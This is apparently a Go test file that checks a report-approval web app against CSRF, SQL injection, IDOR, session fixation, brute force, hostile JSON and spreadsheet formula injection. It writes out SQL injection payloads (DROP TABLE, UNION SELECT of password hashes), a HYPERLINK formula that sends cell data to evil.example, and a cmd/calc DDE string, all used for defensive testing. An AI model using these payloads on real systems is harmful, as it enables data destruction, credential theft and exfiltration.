package handlers

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"qianfa/models"
	"qianfa/models/modelstest"
	"qianfa/workflow"
)

// CSRF: every write a browser can make with the session cookie is refused without the
// session's token, and with another session's token; the API login is the only write
// that needs no session, and the login form has its own double-submit token.
func TestCSRFOnEveryCookieWrite(t *testing.T) {
	w := newWorld(t, modelstest.NewStore(t, models.DriverSQLite))
	other := w.sessions[rv]
	for _, k := range servedRoutes(w) {
		method, pattern, _ := strings.Cut(k, " ")
		if safeMethod(method) || k == "POST /api/v1/auth/login" {
			continue
		}
		path := fill(pattern, w.targets[ownAgency], w)
		for _, forged := range []string{"", other.csrf} {
			s := w.newSession(w.sessions[ad].user)
			body, ct := url.Values{"_csrf": {forged}}.Encode(), "application/x-www-form-urlencoded"
			if isAPI(pattern) {
				body, ct = "{}", "application/json"
			}
			req, err := http.NewRequest(method, w.srv.URL+path, strings.NewReader(body))
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("Content-Type", ct)
			if forged != "" {
				req.Header.Set("X-CSRF-Token", forged)
			}
			req.AddCookie(&http.Cookie{Name: SessionCookie, Value: s.token})
			res, err := (&http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}).Do(req)
			if err != nil {
				t.Fatal(err)
			}
			res.Body.Close()
			if res.StatusCode != http.StatusForbidden {
				t.Errorf("%s with the cookie and CSRF token %q: %d, want 403", k, forged, res.StatusCode)
			}
		}
	}
	// Nothing of the world changed: its reports are still in review at version 2.
	for _, tg := range w.targets {
		var rep reportBody
		w.call("GET", "/api/v1/reports/"+id(tg.report), w.sessions[ad].token, nil).decode(t, &rep)
		if rep.State != string(workflow.InReview) || rep.Version != 2 {
			t.Errorf("report %d is %s at version %d after the forged writes", tg.report, rep.State, rep.Version)
		}
	}
}

// sqlInjections are classic payloads; a sleep would show as a slow answer.
var sqlInjections = []string{
	`' OR '1'='1`, `1 OR 1=1`, `1; DROP TABLE users; --`, `') UNION SELECT username, password_hash FROM users --`,
	`' AND SLEEP(3) --`, `%' OR 1=1 --`, `\'; DELETE FROM reports; --`, `" OR ""="`,
}

// SQL injection in every query parameter and JSON field: never 500, never slow, never
// more rows than the caller may see, and the data is intact afterwards.
func TestSQLInjection(t *testing.T) {
	modelstest.ForEachDB(t, func(t *testing.T, store *models.Store) {
		w := newWorld(t, store)
		admin, drafter := w.sessions[ad].token, w.sessions[dr].token
		a := id(w.targets[ownAgency].report)
		for _, p := range sqlInjections {
			q := url.QueryEscape(p)
			gets := []struct{ token, path string }{
				{drafter, "/api/v1/reports?state=" + q},
				{drafter, "/api/v1/reports?agency_id=" + q},
				{drafter, "/api/v1/reports?year=" + q + "&kind=" + q},
				{admin, "/api/v1/audit?actor=" + q + "&action=" + q},
				{admin, "/api/v1/audit?report_id=" + q + "&from=" + q + "&to=" + q},
				{drafter, "/api/v1/reports/" + a + "/diff?from=" + q + "&to=" + q},
				{drafter, "/api/v1/reports/" + a + "/export?format=" + q},
				{drafter, "/api/v1/reports/" + url.PathEscape(p)},
				{admin, "/api/v1/reminders/preview?date=" + q},
				{admin, "/api/v1/rollup?year=" + q + "&source=" + q},
				{admin, "/api/v1/dashboard?year=" + q},
				{admin, "/api/v1/outbox?status=" + q},
				{admin, "/api/v1/users?agency_id=" + q},
			}
			for _, g := range gets {
				checkInjected(t, g.path, w.callUnchecked("GET", g.path, g.token, nil))
			}
			checkInjected(t, "public list", w.pageCall("GET", "/public/reports?office="+q+"&agency="+q+"&year="+q, nil, nil, false))
			writes := []struct {
				token, method, path string
				body                any
			}{
				{"", "POST", "/api/v1/auth/login", map[string]string{"username": p, "password": p}},
				{"", "POST", "/api/v1/auth/login", map[string]string{"username": "m-admin' --", "password": p}},
				{admin, "POST", "/api/v1/agencies", map[string]string{"code": "x" + p, "name": p, "parent_code": p}},
				{admin, "POST", "/api/v1/users", map[string]any{"username": p, "name": p, "email": p, "agency_id": 1, "roles": []string{p}, "password": p + "-long-enough"}},
				{w.sessions[rv].token, "POST", "/api/v1/reports/" + a + "/transitions", map[string]any{"action": p, "version": 2, "comment": p}},
				{drafter, "POST", "/api/v1/reports", map[string]any{"year": 2020, "edition": p}},
			}
			for _, wr := range writes {
				checkInjected(t, wr.method+" "+wr.path, w.callUnchecked(wr.method, wr.path, wr.token, wr.body))
			}
			r := w.call("GET", "/api/v1/reports?state="+q, drafter, nil)
			var list struct{ Items []reportBody }
			r.decode(t, &list)
			if len(list.Items) != 0 {
				t.Errorf("state=%s listed %d reports, want none", p, len(list.Items))
			}
		}
		// The data is intact: every report, every user, the audit chain.
		var list struct{ Items []reportBody }
		w.call("GET", "/api/v1/reports", admin, nil).decode(t, &list)
		if len(list.Items) != int(numScopes) {
			t.Errorf("admin lists %d reports after the injections, want %d", len(list.Items), numScopes)
		}
		w.login("m-drafter")
		var v struct{ OK bool }
		w.call("GET", "/api/v1/audit/verify", admin, nil).decode(t, &v)
		if !v.OK {
			t.Error("the audit log does not verify after the injections")
		}
	})
}

func checkInjected(t *testing.T, what string, r response) {
	t.Helper()
	if r.status >= 500 || strings.Contains(string(r.body), "$argon2") {
		t.Errorf("%s: %d %.300s", what, r.status, r.body)
	}
}

// callUnchecked sends a JSON request without the OpenAPI check: the payloads are meant
// to be outside the documented formats. An answer slower than 2.5 s fails the test.
func (w *world) callUnchecked(method, path, token string, body any) response {
	w.t.Helper()
	var raw []byte
	switch b := body.(type) {
	case nil:
	case string:
		raw = []byte(b)
	default:
		var err error
		if raw, err = json.Marshal(b); err != nil {
			w.t.Fatal(err)
		}
	}
	req, err := http.NewRequest(method, w.srv.URL+path, bytes.NewReader(raw))
	if err != nil {
		w.t.Fatal(err)
	}
	if raw != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	start := time.Now()
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		w.t.Fatal(err)
	}
	defer res.Body.Close()
	out, err := io.ReadAll(res.Body)
	if err != nil {
		w.t.Fatal(err)
	}
	if d := time.Since(start); d > 2500*time.Millisecond {
		w.t.Errorf("%s %s took %v: the payload reached the database as SQL, or the parser is slow", method, path, d)
	}
	return response{status: res.StatusCode, header: res.Header, body: out}
}

// IDOR: a drafter guessing ids sees its own reports and, for every other id, an answer
// byte for byte equal to that of an id that does not exist.
func TestIDORByIDGuessing(t *testing.T) {
	w := newWorld(t, modelstest.NewStore(t, models.DriverSQLite))
	drafter := w.sessions[dr]
	missing := w.call("GET", "/api/v1/reports/999999", drafter.token, nil)
	mustStatus(t, missing, http.StatusNotFound, "not_found")
	maxID := w.targets[otherOffice].report
	for n := int64(1); n <= maxID+3; n++ {
		for _, suffix := range []string{"", "/revisions", "/revisions/1", "/audit", "/export?format=json", "/diff?from=1&to=1"} {
			r := w.call("GET", "/api/v1/reports/"+id(n)+suffix, drafter.token, nil)
			own := n == w.targets[ownAgency].report
			switch {
			case own && r.status != http.StatusOK:
				t.Errorf("own report %d%s: %d", n, suffix, r.status)
			case !own && (r.status != http.StatusNotFound || !bytes.Equal(r.body, missing.body)):
				t.Errorf("report %d%s of another agency: %d %s, want the answer of a missing id %s", n, suffix, r.status, r.body, missing.body)
			}
		}
		page := w.pageCall("GET", "/reports/"+id(n), &drafter, nil, false)
		if own := n == w.targets[ownAgency].report; own != (page.status == http.StatusOK) || !own && page.status != http.StatusNotFound {
			t.Errorf("page of report %d: %d", n, page.status)
		}
	}
	r := w.call("PATCH", "/api/v1/users/"+id(w.targets[otherAgency].drafter.ID), drafter.token, map[string]any{"active": false})
	mustStatus(t, r, http.StatusForbidden, "forbidden")
}

// Session fixation: a login always issues a new token; a token planted in the browser
// before the login is not the one the victim ends up with.
func TestSessionRenewedAtLogin(t *testing.T) {
	w := newWorld(t, modelstest.NewStore(t, models.DriverSQLite))
	planted := w.sessions[rv] // the attacker's own valid session
	jar := map[string]string{SessionCookie: planted.token}
	login := w.pageCall("GET", "/login", nil, nil, false)
	for _, c := range (&http.Response{Header: login.header}).Cookies() {
		jar[c.Name] = c.Value
	}
	form := url.Values{"_csrf": {jar[loginCSRFCookie]}, "username": {"m-admin"}, "password": {testPassword}, "next": {"/"}}
	req, _ := http.NewRequest("POST", w.srv.URL+"/login", strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	for k, v := range jar {
		req.AddCookie(&http.Cookie{Name: k, Value: v})
	}
	res, err := (&http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}).Do(req)
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	var issued string
	for _, c := range res.Cookies() {
		if c.Name == SessionCookie {
			issued = c.Value
		}
	}
	if res.StatusCode != http.StatusSeeOther || issued == "" || issued == planted.token {
		t.Fatalf("form login with a planted session: %d, cookie %q (planted %q)", res.StatusCode, issued, planted.token)
	}
	var me struct{ Username string }
	w.call("GET", "/api/v1/me", issued, nil).decode(t, &me)
	if me.Username != "m-admin" {
		t.Errorf("the new session is %q's", me.Username)
	}
	w.call("GET", "/api/v1/me", planted.token, nil).decode(t, &me)
	if me.Username != "m-reviewer" {
		t.Errorf("the planted session became %q's", me.Username)
	}
	if a, b := w.login("m-admin"), w.login("m-admin"); a == b || a == issued {
		t.Error("two logins of one user share a token")
	}
}

// Logout, deactivation and a role change take effect on the very next request.
func TestTokensDieAtOnce(t *testing.T) {
	w := newWorld(t, modelstest.NewStore(t, models.DriverSQLite))
	admin := w.sessions[ad].token
	d := w.sessions[dr]
	bearer := w.login("m-drafter")
	mustStatus(t, w.call("POST", "/api/v1/auth/logout", bearer, nil), http.StatusNoContent, "")
	mustStatus(t, w.call("GET", "/api/v1/me", bearer, nil), http.StatusUnauthorized, "unauthenticated")

	cookie := w.newSession(d.user)
	mustStatus(t, w.pageCall("POST", "/logout", &cookie, nil, false), http.StatusSeeOther, "")
	if r := w.pageCall("GET", "/reports", &cookie, nil, false); r.status != http.StatusSeeOther || !strings.HasPrefix(r.header.Get("Location"), "/login") {
		t.Errorf("page after logout: %d %s, want 303 to /login", r.status, r.header.Get("Location"))
	}

	// The reviewer loses the role: the next approval is refused.
	rvs := w.sessions[rv]
	mustStatus(t, w.call("PATCH", "/api/v1/users/"+id(rvs.user.ID), admin, map[string]any{"roles": []string{"auditor"}}), http.StatusOK, "")
	r := w.call("POST", "/api/v1/reports/"+id(w.targets[ownAgency].report)+"/transitions", rvs.token, map[string]any{"action": "approve", "version": 2})
	mustStatus(t, r, http.StatusForbidden, "forbidden")

	// The drafter is deactivated: every session dies, and the password no longer works.
	other := w.newSession(d.user)
	mustStatus(t, w.call("PATCH", "/api/v1/users/"+id(d.user.ID), admin, map[string]any{"active": false}), http.StatusOK, "")
	for _, tok := range []string{d.token, other.token} {
		mustStatus(t, w.call("GET", "/api/v1/me", tok, nil), http.StatusUnauthorized, "unauthenticated")
	}
	if r := w.pageCall("GET", "/", &other, nil, false); r.status != http.StatusSeeOther {
		t.Errorf("page of a deactivated user: %d, want 303 to the login", r.status)
	}
	r = w.call("POST", "/api/v1/auth/login", "", map[string]string{"username": "m-drafter", "password": testPassword})
	mustStatus(t, r, http.StatusUnauthorized, "invalid_credentials")
}

// Brute force: five failures lock the username for the window, whatever the spelling of
// the name, while other users sign in; after the window the right password works again.
func TestBruteForceThrottled(t *testing.T) {
	modelstest.ForEachDB(t, func(t *testing.T, store *models.Store) {
		w := newWorld(t, store)
		try := func(username, pw string) response {
			return w.call("POST", "/api/v1/auth/login", "", map[string]string{"username": username, "password": pw})
		}
		for i := range 5 {
			mustStatus(t, try("m-leader", fmt.Sprintf("guess-%d", i)), http.StatusUnauthorized, "invalid_credentials")
		}
		for _, name := range []string{"m-leader", " m-leader ", "M-LEADER", "m-Leader"} {
			r := try(name, testPassword)
			if r.status == http.StatusOK {
				t.Errorf("login as %q with the right password after 5 failures: 200, want no session", name)
			}
		}
		mustStatus(t, try("m-leader", testPassword), http.StatusTooManyRequests, "rate_limited")
		mustStatus(t, try("m-publisher", testPassword), http.StatusOK, "")
		w.now = w.now.Add(16 * time.Minute)
		mustStatus(t, try("m-leader", testPassword), http.StatusOK, "")
	})
}

// Re-authentication at the last sign-off step cannot be skipped: no password, a wrong
// one, a blank one, or a client claiming to be re-authenticated are refused and audited;
// the right password signs.
func TestReauthenticationAtSignOff(t *testing.T) {
	w := newWorld(t, modelstest.NewStore(t, models.DriverSQLite))
	tg := w.targets[ownAgency]
	path := "/api/v1/reports/" + id(tg.report) + "/transitions"
	mustStatus(t, w.call("POST", path, w.sessions[rv].token, map[string]any{"action": "approve", "version": 2}), http.StatusOK, "")
	leader := w.sessions[ld]
	attempts := []any{
		map[string]any{"action": "approve", "version": 3},
		map[string]any{"action": "approve", "version": 3, "password": ""},
		map[string]any{"action": "approve", "version": 3, "password": "wrong-password"},
		map[string]any{"action": "approve", "version": 3, "password": " " + testPassword},
	}
	for _, body := range attempts {
		mustStatus(t, w.call("POST", path, leader.token, body), http.StatusForbidden, "reauth_failed")
	}
	r := w.callUnchecked("POST", path, leader.token, map[string]any{"action": "approve", "version": 3, "reauthenticated": true})
	mustStatus(t, r, http.StatusBadRequest, "bad_request")
	form := url.Values{"action": {"approve"}, "version": {"3"}}
	w.pageCall("POST", "/reports/"+id(tg.report)+"/transition", &leader, form, false)

	var rep reportBody
	w.call("GET", "/api/v1/reports/"+id(tg.report), leader.token, nil).decode(t, &rep)
	if rep.State != string(workflow.InApproval) || rep.Version != 3 {
		t.Fatalf("after the refused sign-offs the report is %s at version %d", rep.State, rep.Version)
	}
	var events struct{ Items []struct{ Action string } }
	w.call("GET", "/api/v1/audit?action=reauth_failed", w.sessions[ad].token, nil).decode(t, &events)
	if len(events.Items) < 2 {
		t.Errorf("%d reauth_failed events, want at least the wrong and the padded password", len(events.Items))
	}
	mustStatus(t, w.call("POST", path, leader.token, map[string]any{"action": "approve", "version": 3, "password": testPassword}), http.StatusOK, "")
}

// Separation of duties survives editing: a user with both roles who saved the content
// and submitted it cannot approve it, not even after a return and a new submission.
func TestNoSelfApprovalAfterEditing(t *testing.T) {
	w := newWorld(t, modelstest.NewStore(t, models.DriverSQLite))
	ag := w.targets[ownAgency].agency
	both := w.newSession(w.user(ag.ID, "both", workflow.RoleDrafter, workflow.RoleReviewer))
	var rep reportBody
	r := w.call("POST", "/api/v1/reports/import?agency_id="+id(ag.ID), w.sessions[ad].token, withYear(t, 2019))
	mustStatus(t, r, http.StatusCreated, "")
	r.decode(t, &rep)
	path := "/api/v1/reports/" + id(rep.ID)
	mustStatus(t, w.call("PUT", path+"/content", both.token, fmt.Sprintf(`{"version": 1, "content": %s}`, withYear(t, 2019))), http.StatusOK, "")
	mustStatus(t, w.call("POST", path+"/transitions", both.token, map[string]any{"action": "submit", "version": 2}), http.StatusOK, "")
	mustStatus(t, w.call("POST", path+"/transitions", both.token, map[string]any{"action": "approve", "version": 3}), http.StatusForbidden, "forbidden")
	mustStatus(t, w.call("POST", path+"/transitions", w.sessions[rv].token, map[string]any{"action": "return", "version": 3, "comment": "补充"}), http.StatusOK, "")
	mustStatus(t, w.call("PUT", path+"/content", both.token, fmt.Sprintf(`{"version": 4, "content": %s}`, withYear(t, 2019))), http.StatusOK, "")
	mustStatus(t, w.call("POST", path+"/transitions", both.token, map[string]any{"action": "submit", "version": 5}), http.StatusOK, "")
	mustStatus(t, w.call("POST", path+"/transitions", both.token, map[string]any{"action": "approve", "version": 6}), http.StatusForbidden, "forbidden")
}

// withYear is the seed document as the report of another year of the same edition.
func withYear(t *testing.T, year int) []byte {
	t.Helper()
	return []byte(strings.Replace(string(seedJSON(t)), `"year": 2020`, fmt.Sprintf(`"year": %d`, year), 1))
}

// Hostile JSON: too large, nested deeply, invalid UTF-8, duplicate keys. Each is
// refused with its own status, promptly, and nothing is stored.
func TestHostileJSON(t *testing.T) {
	w := newWorld(t, modelstest.NewStore(t, models.DriverSQLite))
	d, rv := w.sessions[dr].token, w.sessions[rv].token
	a := "/api/v1/reports/" + id(w.targets[ownAgency].report)
	seed := string(seedJSON(t))
	cases := []struct {
		name, token, method, path, body string
		status                          int
		code                            string
	}{
		{"oversize", d, "POST", "/api/v1/validate", `{"title": "` + strings.Repeat("字", 400000) + `"}`, 413, "too_large"},
		{"deeply nested document", d, "POST", "/api/v1/validate", strings.Repeat("[", 100000) + strings.Repeat("]", 100000), 422, "validation_failed"},
		{"deeply nested request", d, "POST", "/api/v1/reports", `{"year": ` + strings.Repeat("[", 100000) + strings.Repeat("]", 100000) + `}`, 400, "bad_request"},
		{"duplicate key in a document", d, "POST", "/api/v1/validate", strings.Replace(seed, `"year": 2020,`, `"year": 2020, "year": 2021,`, 1), 422, "validation_failed"},
		{"invalid UTF-8 in a document", d, "POST", "/api/v1/validate", strings.Replace(seed, "无。", "无\xff\xfe。", 1), 422, "validation_failed"},
		{"invalid UTF-8 in a request", rv, "POST", a + "/transitions", "{\"action\": \"return\", \"version\": 2, \"comment\": \"\xff\"}", 400, "bad_request"},
		{"duplicate key in a request", d, "POST", "/api/v1/reports", `{"year": 2021, "edition": "2021", "year": 2020}`, 400, "bad_request"},
		{"duplicate key in a transition", rv, "POST", a + "/transitions", `{"action": "return", "action": "approve", "version": 2}`, 400, "bad_request"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := w.callUnchecked(c.method, c.path, c.token, c.body)
			if r.status != c.status || r.code() != c.code {
				t.Errorf("%d %s %.200s, want %d %s", r.status, r.code(), r.body, c.status, c.code)
			}
		})
	}
	var list struct{ Items []reportBody }
	w.call("GET", "/api/v1/reports", d, nil).decode(t, &list)
	if len(list.Items) != 1 || list.Items[0].Version != 2 {
		t.Errorf("after the hostile requests the drafter sees %+v", list.Items)
	}
}

// formula is text a spreadsheet would run; the exports must store it as text.
const formula = `=HYPERLINK("http://evil.example/?"&A1,"点此")`

// Formula injection: an agency name, a user name and a comment that start with = + - @
// come out of the audit CSV and the dashboard CSV and XLSX as inert text.
func TestFormulaInjection(t *testing.T) {
	w := newWorld(t, modelstest.NewStore(t, models.DriverSQLite))
	admin := w.sessions[ad]
	mustStatus(t, w.call("POST", "/api/v1/agencies", admin.token, map[string]any{"code": "f1", "name": formula, "parent_code": "330424"}), http.StatusCreated, "")
	rvs := w.sessions[rv]
	comments := []string{formula, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"}
	for i, c := range comments {
		path := "/api/v1/reports/" + id(w.targets[ownAgency].report) + "/transitions"
		if i > 0 {
			mustStatus(t, w.call("POST", path, w.sessions[dr].token, map[string]any{"action": "submit", "version": 2*i + 1}), http.StatusOK, "")
		}
		mustStatus(t, w.call("POST", path, rvs.token, map[string]any{"action": "return", "version": 2*i + 2, "comment": c}), http.StatusOK, "")
	}
	r := w.call("GET", "/api/v1/audit?action=return", admin.token, nil, "Accept", "text/csv")
	mustStatus(t, r, http.StatusOK, "")
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) && !plainNumberCell(cell) {
				t.Errorf("audit CSV cell %q would run as a formula", cell)
			}
			for _, c := range comments {
				if cell == "'"+c {
					seen++
				}
			}
		}
	}
	if seen != len(comments) {
		t.Errorf("audit CSV shows %d of the %d comments as quoted text:\n%s", seen, len(comments), r.body)
	}
	sup := w.sessions[sv].token
	r = w.call("GET", "/api/v1/dashboard?year=2020&format=csv", sup, nil)
	mustStatus(t, r, http.StatusOK, "")
	if !strings.Contains(string(r.body), `'=HYPERLINK(`) || strings.Contains(string(r.body), ",=HYPERLINK(") || strings.HasPrefix(string(r.body), "=") {
		t.Errorf("dashboard CSV does not neutralise the agency name:\n%s", r.body)
	}
	r = w.call("GET", "/api/v1/dashboard?year=2020&format=xlsx", sup, nil)
	mustStatus(t, r, http.StatusOK, "")
	checkXLSXFormulas(t, r.body)
}

func plainNumberCell(s string) bool {
	_, err := fmt.Sscanf(s, "%g", new(float64))
	return err == nil && !strings.ContainsAny(s, "=@()!|")
}

// checkXLSXFormulas asserts that no cell of the workbook is a formula and that the agency
// name is there as quoted text.
func checkXLSXFormulas(t *testing.T, data []byte) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	found := false
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for j, cell := range row {
				name, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if fm, _ := f.GetCellFormula(sheet, name); fm != "" {
					t.Errorf("XLSX %s!%s is the formula %q", sheet, name, fm)
				}
				found = found || cell == "'"+formula
			}
		}
	}
	if !found {
		t.Error("XLSX does not carry the agency name as quoted text")
	}
}

// Security headers on pages, API answers, errors and static files; the session cookie is
// HttpOnly and SameSite=Lax, and Secure when the server is behind TLS.
func TestSecurityHeadersAndCookieFlags(t *testing.T) {
	for _, secure := range []bool{false, true} {
		store := modelstest.NewStore(t, models.DriverSQLite)
		e := newEnv(t, store, func(o *Options) { o.SecureCookies = secure })
		ag := modelstest.MustAgency(t, store, "a1", 0)
		e.user(ag.ID, "u1", workflow.RoleDrafter)
		r := e.call("POST", "/api/v1/auth/login", "", map[string]string{"username": "u1", "password": testPassword})
		mustStatus(t, r, http.StatusOK, "")
		var sess *http.Cookie
		for _, c := range (&http.Response{Header: r.header}).Cookies() {
			if c.Name == SessionCookie {
				sess = c
			}
		}
		if sess == nil || !sess.HttpOnly || sess.SameSite != http.SameSiteLaxMode || sess.Secure != secure || sess.Path != "/" {
			t.Errorf("secure=%v: session cookie %+v, want HttpOnly, SameSite=Lax, Secure=%v, Path=/", secure, sess, secure)
		}
		for _, path := range []string{"/login", "/api/v1/me", "/api/v1/nothing", "/static/app.css", "/public/reports"} {
			res, err := http.Get(e.srv.URL + path)
			if err != nil {
				t.Fatal(err)
			}
			res.Body.Close()
			for h, want := range map[string]string{
				"Content-Security-Policy": "default-src 'self'; script-src 'self'",
				"X-Content-Type-Options":  "nosniff",
				"X-Frame-Options":         "DENY",
				"Referrer-Policy":         "same-origin",
			} {
				if got := res.Header.Get(h); !strings.HasPrefix(got, want) {
					t.Errorf("%s: %s = %q, want %q", path, h, got, want)
				}
			}
			if strings.Contains(res.Header.Get("Content-Security-Policy"), "unsafe-inline") {
				t.Errorf("%s: CSP allows inline code", path)
			}
		}
	}
}

// Guessing the password at sign-off must be throttled like the login: a stolen session
// must not become an unlimited password oracle.
func TestSignOffPasswordGuessingIsThrottled(t *testing.T) {
	w := newWorld(t, modelstest.NewStore(t, models.DriverSQLite))
	path := "/api/v1/reports/" + id(w.targets[ownAgency].report) + "/transitions"
	mustStatus(t, w.call("POST", path, w.sessions[rv].token, map[string]any{"action": "approve", "version": 2}), http.StatusOK, "")
	leader := w.sessions[ld].token
	for i := range 5 {
		r := w.call("POST", path, leader, map[string]any{"action": "approve", "version": 3, "password": fmt.Sprintf("guess-%d", i)})
		mustStatus(t, r, http.StatusForbidden, "reauth_failed")
	}
	r := w.call("POST", path, leader, map[string]any{"action": "approve", "version": 3, "password": testPassword})
	mustStatus(t, r, http.StatusTooManyRequests, "rate_limited")
}
